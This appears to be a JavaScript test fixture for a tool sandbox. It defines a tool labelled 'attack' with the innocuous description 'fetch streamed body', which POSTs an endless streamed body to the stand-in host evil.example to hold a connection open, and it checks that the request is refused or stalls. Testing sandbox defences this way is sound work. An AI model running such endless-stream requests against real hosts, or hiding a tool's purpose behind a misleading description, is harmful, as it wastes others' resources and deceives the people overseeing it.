// attack: Sends a body that never ends, to keep a connection open for as long as the call lasts.
// expect: ok
// result: {"refused":true}

export default {
  tools: {
    attack: {
      description: "fetch streamed body",
      input: { type: "object" },
      async run() {
        const endless = new ReadableStream({
          pull(controller) {
            controller.enqueue(new Uint8Array(1024));
          },
        });
        let refused = false;
        const timeout = new Promise((resolve) => setTimeout(resolve, 50, "stuck"));
        const outcome = await Promise.race([fetch("https://evil.example/", { method: "POST", body: endless, duplex: "half" }).catch(() => "refused"), timeout]);
        refused = outcome === "refused" || outcome === "stuck";
        return { refused };
      },
    },
  },
};
